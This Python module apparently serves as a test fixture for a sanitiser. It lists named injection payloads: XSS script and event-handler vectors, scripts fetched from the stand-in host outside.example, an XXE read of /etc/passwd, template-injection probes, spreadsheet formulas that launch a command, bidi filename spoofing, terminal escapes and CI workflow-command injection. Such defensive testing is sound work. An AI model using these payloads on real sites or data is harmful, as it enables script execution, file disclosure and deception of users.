"""The texts. A script among them calls `alert`, a file is fetched from the host outside.example."""

from __future__ import annotations

from typing import Final

VECTORS: Final[dict[str, str]] = {
    # elements
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT>alert(1)</SCRIPT >",
    "script with a slash": "<script/x>alert(1)</script/x>",
    "script from elsewhere": "<script src=//outside.example/x.js></script>",
    "script never closed": "<script>alert(1)//",
    "script in a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "module": '<script type="module">import "//outside.example/x.js"</script>',
    "picture": "<img src=x onerror=alert(1)>",
    "picture from elsewhere": "<img src=https://outside.example/pixel.png>",
    "picture set": '<img srcset="//outside.example/a.png 1x, //outside.example/b.png 2x">',
    "frame": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "frame of a script": "<iframe src=javascript:alert(1)>",
    "object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "embed": "<embed src=//outside.example/x.swf>",
    "base": "<base href=//outside.example/>",
    "refresh": '<meta http-equiv=refresh content="0;url=//outside.example/">',
    "policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' *\">",
    "style": "<style>@import '//outside.example/x.css';</style>",
    "style attribute": '<p style="background:url(//outside.example/x.png)">p</p>',
    "style sheet": "<link rel=stylesheet href=//outside.example/x.css>",
    "prefetch": "<link rel=prefetch href=//outside.example/next>",
    "form": "<form action=//outside.example/><input autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>",
    "details": "<details open ontoggle=alert(1)>",
    "video": "<video src=x onerror=alert(1)><source src=//outside.example/v.mp4></video>",
    "marquee": "<marquee onstart=alert(1)>m</marquee>",
    "svg": "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "svg use": '<svg><use href="//outside.example/s.svg#x"/><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
    "svg link": '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "math": "<math><mtext></p><img src=x onerror=alert(1)></mtext></math>",
    "template": "<template><script>alert(1)</script></template>",
    "no script": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    # ways out of where the text stands
    "out of an attribute": '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "out of a single-quoted attribute": "' onmouseover='alert(1)' x='",
    "out of a bare attribute": "x onclick=alert(1)//",
    "out of a title": "</title><script>alert(1)</script>",
    "out of a text area": "</textarea></option></select><script>alert(1)</script>",
    "out of a style": "</style><script>alert(1)</script>",
    "out of JSON-LD": '</script><script>alert(1)</script>","x":"',
    "out of JSON": '"}];alert(1);//\\u003cscript>',
    "out of a comment": "--><script>alert(1)</script><!--",
    "out of CDATA": "]]><script>alert(1)</script><![CDATA[",
    "entity of XML": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "out of an article": "</article></main></body></html><script>alert(1)</script>",
    "null in a tag": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    # addresses
    "address of a script": "javascript:alert(1)",
    "address in capitals": "JaVaScRiPt:alert(1)",
    "address split by an entity": "java&#115;cript:alert(1)",
    "address split by a named entity": "javascript&colon;alert(1)",
    "address split by a tab": "java\tscript:alert(1)",
    "address after a control": "\x01javascript:alert(1)",
    "address of data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "address of an old script": "vbscript:msgbox(1)",
    "link": '<a href="javascript:alert(1)">x</a>',
    "link split by an entity": '<a href="java&#x0A;script:alert(1)">x</a>',
    # Markdown and its extensions
    "Markdown link": "[x](javascript:alert(1))",
    "Markdown link with a title": '[x](<javascript:alert(1)> "t")',
    "Markdown reference": "[x][r]\n\n[r]: javascript:alert(1)",
    "Markdown picture": "![x](https://outside.example/pixel.png)",
    "Markdown link of itself": "<javascript:alert(1)>",
    "Markdown heading": "# h1 {: onclick=alert(1) }",
    "Markdown attributes": "x\n{: #quotes .x onclick=alert(1) style=position:fixed }",
    "Markdown table": "| a | b |\n|---|---|\n| <script>alert(1)</script> | `x` |",
    "Markdown code": "```html\n<script>alert(1)</script>\n```",
    "Markdown signs": "*a* _b_ **c** `d` ~~e~~ ==f== ^^g^^ [^1] [TOC] \\* ++h++ :smile: !!! note",
    "Markdown list": "- a\n- b\n\n1. c\n\n> d\n\n---",
    "abbreviation": "*[HTML]: <script>alert(1)</script>",
    "snippet": '--8<-- "/etc/passwd"',
    "snippet of a page": '--8<-- "https://outside.example/x.md"',
    "placeholder of Markdown": "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03",
    "mark of a shell": "qz000zq qz001zq qz002zq qz003zq qz004zq qz005zq qz006zq qz007zq",
    "front matter": "---\ntitle: x\ntemplate: ../../../etc/passwd\n---\n",
    # templates
    "template expression": "{{ 7 * 7 }} {{ config.__class__.__init__.__globals__ }}",
    "template statement": "{% include '/etc/passwd' %}{% for x in y %}",
    "template comment": "{# x #} {## y ##} ${7*7} #{7*7} <%= 7*7 %> %s %(x)s {0} {x}",
    # tables
    "formula": '=HYPERLINK("//outside.example/"&A1,"x")',
    "formula with a command": "=cmd|' /C calc'!A0",
    "formula after a sign": "+1+cmd|' /C calc'!A0",
    "formula after a minus": "-2+3+cmd|' /C calc'!A0",
    "formula at a name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "row of its own": 'a","b"\r\n"=1+1",c;d\te',
    # signs
    "turned around": "user \u202etxt.exe\u202c and \u2066isolated\u2069 \u200fmark",
    "turned around for good": "name \u202egnp.exe",
    "zero width": "pay\u200bpal \u200cjoin\u200d \u2060word \ufeffmark \u00adsoft",
    "tags": "flag \U000e0041\U000e0042\U000e007f end",
    "marks without end": "Z\u0334\u0321\u031b\u0353\u0344\u0301\u0300a\u0337\u0322\u034e\u0350 text",
    "line separators": "one\u2028two\u2029three\u0085four",
    "half a sign": "noncharacter \ufffe\uffff\U0001fffe end",
    # terminals and continuous integration
    "colours": "\x1b[31mred\x1b[0m \x1b[2J\x1b[1;1H",
    "terminal title": "\x1b]0;owned\x07 \x1b]8;;https://outside.example/\x1b\\link\x1b]8;;\x1b\\",
    "control of eight bits": "\x9b31m\x9d0;owned\x9c \x90q\x9c",
    "back over it": "error\b\b\b\b\bfine \x7f\x7f",
    "over the line": "error: bad\rfine: all is well",
    "workflow command": "::error file=x.yml,line=1::owned",
    "workflow command on a line of its own": "x\n::set-output name=a::b\n::add-mask::t\n::stop-commands::z",
    "workflow command with carriage return": "x\r::warning::owned\r\n::debug::y",
    "old workflow command": "##[error]owned\n##vso[task.setvariable variable=a]b",
    "encoded line ends": "x%0A::error::owned%0D%25",
}
"""What each is, and its text."""

REFUSED: Final = frozenset(
    {
        "null in a tag",
        "address after a control",
        "placeholder of Markdown",
        "line separators",
        "half a sign",
        "colours",
        "terminal title",
        "control of eight bits",
        "back over it",
    }
)
"""Texts of signs that no briefing may hold; the others are published as they are written."""

PUBLISHED: Final = {name: text for name, text in VECTORS.items() if name not in REFUSED}

SITE_NAME: Final = " ".join(
    VECTORS[name]
    for name in (
        "out of a title",
        "out of an attribute",
        "out of a single-quoted attribute",
        "out of JSON-LD",
        "out of CDATA",
        "picture",
        "template expression",
    )
)
"""The title of the hostile site."""
